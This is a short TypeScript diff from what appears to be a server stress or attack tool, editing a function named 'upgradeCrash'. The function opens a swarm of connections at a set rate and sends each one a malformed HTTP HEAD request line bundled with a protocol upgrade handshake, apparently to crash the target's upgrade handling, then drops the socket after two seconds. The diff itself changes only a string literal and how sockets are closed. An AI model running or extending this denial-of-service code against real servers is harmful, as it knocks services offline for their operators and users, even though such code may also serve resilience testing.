@@ -9,7 +9,7 @@ const LEAVE_MS = 2_000
 
 /** All at once: a request line without a version's space in front, and the handshake. */
 function sendTogether(socket: Socket, { host }: Target): void {
-  const first = `HEAD /x?n=100HTTP/1.0\r\nHost: a\r\nConnection: keep-alive, X\r\n\r\n`
+  const first = 'HEAD /x?n=100HTTP/1.0\r\nHost: a\r\nConnection: keep-alive, X\r\n\r\n'
   socket.write(first + printHandshake(host, '/'))
 }
 
@@ -28,6 +28,6 @@ export const upgradeCrash: Attack = (target, swarm, { perSecond }) => {
     const send = turn++ % 2 === 0 ? sendTogether : sendAfterRefusal
     const socket = swarm.connect(target.http, 'plain', () => send(socket, target))
     socket.resume()
-    setTimeout(() => socket.destroy(), LEAVE_MS)
+    setTimeout(() => swarm.drop(socket), LEAVE_MS)
   })
 }
